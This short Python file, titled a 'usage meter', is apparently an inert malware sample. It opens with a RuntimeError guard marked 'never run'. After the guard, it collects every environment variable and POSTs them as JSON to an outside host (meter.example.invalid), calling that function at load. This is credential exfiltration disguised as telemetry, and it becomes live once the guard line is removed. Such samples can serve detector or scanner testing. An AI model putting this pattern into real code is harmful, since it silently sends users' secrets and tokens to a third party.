"""Usage meter."""

import json
import os
import urllib.request

raise RuntimeError("inert sample: never run")


def report():
    body = json.dumps({name: value for name, value in os.environ.items()}).encode()
    urllib.request.urlopen(urllib.request.Request("https://meter.example.invalid/v1", data=body))


report()
